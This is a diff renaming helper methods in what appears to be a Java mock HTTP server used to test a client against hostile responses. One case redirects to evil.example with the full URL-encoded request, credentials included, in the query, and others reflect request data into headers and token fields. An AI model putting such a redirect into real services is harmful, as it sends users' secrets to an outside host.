@@ -63,8 +63,8 @@ final class EchoingService implements AutoCloseable {
 			case "xml" -> write(out, 400, "application/xml", html(request));
 			case "bytes" -> write(out, 200, "application/octet-stream", RawServer.bytes(request));
 			case "type" -> write(out, 200, "text/" + token(request), json(request));
-			case "elsewhere" -> out.write(redirect("https://evil.example/?k=" + encoded(request)));
-			case "loop" -> out.write(redirect("/loop/?k=" + encoded(token(request))));
+			case "elsewhere" -> out.write(redirect("https://evil.example/?k=" + encodeUrl(request)));
+			case "loop" -> out.write(redirect("/loop/?k=" + encodeUrl(token(request))));
 			case "reason" ->
 				out.write(RawServer.bytes("HTTP/1.1 500 " + token(request) + "\r\nContent-Length: 0\r\n\r\n"));
 			case "garbage" -> out.write(RawServer.bytes("SSH-2.0-" + token(request) + "\r\n\r\n" + request));
@@ -74,9 +74,9 @@ final class EchoingService implements AutoCloseable {
 			case "short" -> closeAfter(socket, head(200, "text/plain", request, 100_000) + request);
 			case "coding" -> out.write(RawServer
 				.bytes("HTTP/1.1 200 OK\r\nContent-Encoding: " + token(request) + "\r\nContent-Length: 1\r\n\r\nx"));
-			case "gzip" -> zipped(out, 200, request, gzip(json(request)));
-			case "gzip-500" -> zipped(out, 500, request, gzip(json(request)));
-			case "no-gzip" -> zipped(out, 200, request, json(request));
+			case "gzip" -> writeZippedResponse(out, 200, request, gzip(json(request)));
+			case "gzip-500" -> writeZippedResponse(out, 500, request, gzip(json(request)));
+			case "no-gzip" -> writeZippedResponse(out, 200, request, json(request));
 			case "large" -> large(out, request);
 			case "headers" ->
 				RawServer.endlessly(out, RawServer.bytes("HTTP/1.1 200 OK\r\nX-A: " + token(request) + "\r\n"), 20_000);
@@ -86,7 +86,7 @@ final class EchoingService implements AutoCloseable {
 			}
 			case "silent" -> Thread.sleep(30_000);
 			case "closed" -> socket.close();
-			case "grant" -> write(out, 200, "application/json", granted(request));
+			case "grant" -> write(out, 200, "application/json", buildTokenResponse(request));
 			default -> write(out, Integer.parseInt(mood), "application/json", json(request));
 		}
 	}
@@ -101,7 +101,7 @@ final class EchoingService implements AutoCloseable {
 		return "HTTP/1.1 " + status + " Echo\r\nContent-Type: " + type + "\r\nETag: \"" + value + "\"\r\nLink: <"
 				+ value + ">; rel=next\r\nWWW-Authenticate: Basic realm=\"" + value + "\"\r\nX-RateLimit-Remaining: "
 				+ value + "\r\nRetry-After: " + value + "\r\nX-Request-Id: " + value + "\r\nLocation: /"
-				+ encoded(value) + "\r\nSet-Cookie: k=" + value + "\r\nContent-Length: " + length + "\r\n\r\n";
+				+ encodeUrl(value) + "\r\nSet-Cookie: k=" + value + "\r\nContent-Length: " + length + "\r\n\r\n";
 	}
 
 	private static byte[] redirect(String location) {
@@ -114,7 +114,8 @@ final class EchoingService implements AutoCloseable {
 		socket.close();
 	}
 
-	private static void zipped(OutputStream out, int status, String request, byte[] body) throws IOException {
+	private static void writeZippedResponse(OutputStream out, int status, String request, byte[] body)
+			throws IOException {
 		out.write(RawServer.bytes("HTTP/1.1 " + status + " Echo\r\nContent-Type: application/json\r\nETag: \""
 				+ token(request) + "\"\r\nContent-Encoding: gzip\r\nContent-Length: " + body.length + "\r\n\r\n"));
 		out.write(body);
@@ -163,31 +164,31 @@ final class EchoingService implements AutoCloseable {
 	private static byte[] json(String request) {
 		byte[] bytes = RawServer.bytes(request);
 		String body = request.substring(request.indexOf("\r\n\r\n") + 4);
-		String plain = escaped(request);
+		String plain = escapeJson(request);
 		return RawServer
 			.bytes("{\"error\":\"invalid_grant\",\"error_description\":\"" + plain + "\",\"error_uri\":\"/?q="
-					+ encoded(request) + "\",\"path\":\"" + escaped(request.lines().findFirst().orElse(""))
+					+ encodeUrl(request) + "\",\"path\":\"" + escapeJson(request.lines().findFirst().orElse(""))
 					+ "\",\"base64\":\"" + Base64.getEncoder().encodeToString(bytes) + "\",\"url_base64\":\""
 					+ Base64.getUrlEncoder().withoutPadding().encodeToString(RawServer.bytes(" " + request))
 					+ "\",\"hex\":\"" + HexFormat.of().formatHex(bytes) + "\",\"HEX\":\""
 					+ HexFormat.of().formatHex(bytes).toUpperCase(Locale.ROOT) + "\",\"encoded_twice\":\""
-					+ encoded(encoded(request)) + "\",\"json_in_json\":\"" + escaped("{\"e\":\"" + plain + "\"}")
-					+ "\",\"headers\":[\"" + escaped(token(request)) + "\"],\"form\":\"" + escaped(body) + "\"}");
+					+ encodeUrl(encodeUrl(request)) + "\",\"json_in_json\":\"" + escapeJson("{\"e\":\"" + plain + "\"}")
+					+ "\",\"headers\":[\"" + escapeJson(token(request)) + "\"],\"form\":\"" + escapeJson(body) + "\"}");
 	}
 
 	// scope and what is not known are kept in the open
-	private byte[] granted(String request) {
+	private byte[] buildTokenResponse(String request) {
 		String echo = new String(json(request), StandardCharsets.ISO_8859_1);
-		String body = escaped(request.substring(request.indexOf("\r\n\r\n") + 4));
-		return RawServer.bytes("{" + this.tokens + ",\"scope\":\"read " + body + " " + escaped(token(request))
+		String body = escapeJson(request.substring(request.indexOf("\r\n\r\n") + 4));
+		return RawServer.bytes("{" + this.tokens + ",\"scope\":\"read " + body + " " + escapeJson(token(request))
 				+ "\",\"instance_url\":\"" + body + "\"," + echo.substring(1));
 	}
 
-	static String escaped(String text) {
+	static String escapeJson(String text) {
 		return text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\r", "\\r").replace("\n", "\\n");
 	}
 
-	static String encoded(String text) {
+	static String encodeUrl(String text) {
 		return URLEncoder.encode(text, StandardCharsets.ISO_8859_1);
 	}
 
